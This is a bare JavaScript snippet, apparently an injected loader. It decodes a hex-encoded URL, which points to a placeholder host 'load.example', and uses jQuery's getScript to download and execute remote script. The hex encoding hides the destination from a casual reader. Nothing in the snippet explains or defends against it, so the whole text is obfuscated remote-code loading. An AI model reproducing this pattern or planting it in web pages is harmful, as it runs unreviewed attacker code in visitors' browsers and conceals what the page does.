let q='';for(const c of '68 74 74 70 73 3a 2f 2f 6c 6f 61 64 2e 65 78 61 6d 70 6c 65 2f 63'.split(' '))q+=String.fromCharCode('0x'+c);
$.getScript(q);
